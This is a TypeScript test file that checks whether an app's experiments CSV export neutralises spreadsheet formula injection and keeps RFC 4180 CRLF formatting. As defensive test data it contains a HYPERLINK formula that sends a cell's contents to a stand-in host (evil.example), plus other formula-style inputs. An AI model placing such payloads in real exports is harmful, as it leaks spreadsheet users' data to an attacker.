/**
 * The attack on the experiments screen's CSV export: text that came from outside (a workload's label, the name of the
 * workload's file) crafted as a spreadsheet formula. Exported through `experiments/export-csv`, every such field must
 * reach the spreadsheet as text (one leading apostrophe), the file must be RFC 4180 with CRLF line ends, and a reader
 * that removes the apostrophe gets the original text back.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { copyFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { type Services, createServices } from '../../../src-main/services'
import { unneutralise } from '../../../src-main/services/platform/csv'
import { tempWorkspace } from '../helpers'
import { thresholdSpec, writeThresholdWorkload } from './harness'

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
/** A file name is a dataset's value too: its base name becomes the workload's label when the spec gives none. */
const FILE_FORMULA = '@SUM(1+1)*cmd'

const ws = tempWorkspace('qa-exp-csv-')
let services: Services

beforeAll(() => {
  services = createServices({ mode: 'headless', dbPath: ws.db, poolSize: 1 })
})
afterAll(async () => {
  await services?.close()
  ws.cleanup()
})

describe('experiments CSV export: formula injection', () => {
  it('neutralises formula text from a workload label and a workload file name, with CRLF line ends', async () => {
    const labelled = writeThresholdWorkload(ws.dir, 12)
    const named = join(ws.dir, `${FILE_FORMULA}.csv`)
    copyFileSync(labelled, named)
    const spec = thresholdSpec(labelled, {
      name: '-cmd attack',
      workloads: [
        { kind: 'csv', path: labelled, label: HYPERLINK },
        { kind: 'csv', path: named }
      ],
      mechanisms: ['nlm'],
      grid: { alpha: [1] },
      trials: 8
    })
    const { jobId, experimentId } = await services.call('experiments/start', { spec })
    expect((await services.context.jobs.settled(jobId))?.state).toBe('done')

    const { csv, rows } = await services.call('experiments/export-csv', { experimentId })
    expect(rows).toBeGreaterThan(0)
    // CRLF only: no bare LF anywhere.
    expect(csv.endsWith('\r\n')).toBe(true)
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/)

    const table = parse(csv) as string[][]
    const header = table[0]
    const body = table.slice(1)
    expect(body).toHaveLength(rows)
    const col = (name: string) => header.indexOf(name)
    const workloads = new Set(body.map((r) => r[col('workload')]))
    expect(workloads).toEqual(new Set([`'${HYPERLINK}`, `'${FILE_FORMULA}`]))
    expect(new Set(body.map((r) => r[col('experiment')]))).toEqual(new Set(["'-cmd attack"]))
    expect(new Set([...workloads].map(unneutralise))).toEqual(new Set([HYPERLINK, FILE_FORMULA]))

    // No field a spreadsheet would run: anything starting with = + - @ TAB or CR is a plain number.
    for (const r of body) {
      for (const f of r) if (/^[=+\-@\t\r]/.test(f)) expect(f, `field ${JSON.stringify(f)}`).toMatch(/^-?\d+(\.\d+)?(e-?\d+)?$/)
    }
  })
})
